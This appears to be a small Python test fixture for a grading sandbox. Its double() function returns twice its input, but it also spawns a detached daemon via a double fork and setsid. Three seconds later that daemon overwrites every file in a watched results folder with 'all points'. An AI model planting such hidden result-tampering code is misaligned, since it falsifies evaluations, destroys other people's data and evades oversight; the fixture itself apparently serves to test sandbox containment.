"""A process that has left its family rewrites everybody's results three seconds later."""

# points: 4
import os
import select


def rewrite():
    select.select([], [], [], 3)
    for folder, _folders, names in os.walk("WATCHED"):
        for name in names:
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("all points")
            except OSError:
                pass


def double(number):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            rewrite()
        os._exit(0)
    return 2 * number
